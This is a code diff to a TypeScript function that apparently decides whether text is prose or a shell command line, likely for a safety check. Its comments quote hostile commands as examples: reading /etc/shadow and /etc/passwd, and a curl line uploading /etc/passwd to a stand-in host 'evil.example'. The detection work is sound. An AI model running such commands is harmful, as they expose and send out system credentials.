@@ -19,10 +19,10 @@ const SENTENCE_WORDS = 2;
 /** A word, a number or an abbreviation, in brackets or quotes, with punctuation after: `(line`, `42)`, `e.g.`. */
 const PROSE = /^[("'‘“¿¡]?[\p{L}\p{N}][\p{L}\p{N}\p{M}'’.-]{0,63}[)"'’”]?[,.;:!?…]{0,3}[)"'’”]?$/u;
 /**
- * A word that counts: letters, an apostrophe only inside (`can't`), not in quotes: `"echo hi"` is a command's
- * argument as often as a quotation.
+ * A word that counts: letters, an apostrophe only inside (`can't`), no dot inside (`evil.example` is a host), not
+ * in quotes: `"echo hi"` is a command's argument as often as a quotation.
  */
-const COUNTS = /^[(¿¡]?\p{L}(?:[\p{L}\p{N}\p{M}.-]|['’](?=\p{L}))*[,.;:!?…)]{0,3}$/u;
+const COUNTS = /^[(¿¡]?\p{L}(?:[\p{L}\p{N}\p{M}-]|['’](?=\p{L}))*[,.;:!?…)]{0,3}$/u;
 /**
  * Commands that take a file, as they are typed (lower case): not words of a sentence. `sudo cat /etc/shadow` and
  * `cat /etc/passwd now` are command lines, "Output of cat /etc/hosts attached" still has three words.
@@ -65,14 +65,26 @@ function fold(s: string): string {
   return s.toLowerCase().replace(/["'`^]/g, '').replace(/\\/g, '/').replace(/\/{2,}/g, '/');
 }
 
+/** A value that starts with a program's path (`/usr/bin/curl`, `./run`, `~/bin/x`) is a command line. */
+const PROGRAM = /^[.~]?\//;
+/** An option, or a path other than the one at the start: what a command line is made of. */
+const ARGUMENT = /^(?:--?[a-z]|\(?\/)/i;
+
 function mentions(text: string, match: string): boolean {
   if (CONTROL.test(text)) return false;
   let found = false;
   let words = 0;
+  let first = true;
+  let program = false;
   for (const token of text.split(/\s+/)) {
     if (token === '') continue;
+    // `/usr/bin/curl --upload-file /etc/passwd evil.example thanks` is a command, whatever words follow.
+    if (first) program = PROGRAM.test(token);
+    else if (program && ARGUMENT.test(token)) return false;
+    first = false;
     if (!found && fold(token).includes(match)) {
-      if (!BARE.test(token)) return false;
+      // A path in backticks is command substitution: `/usr/bin/id` runs, wherever a shell meets it.
+      if (!BARE.test(token) || token.includes('`/')) return false;
       found = true;
       continue;
     }
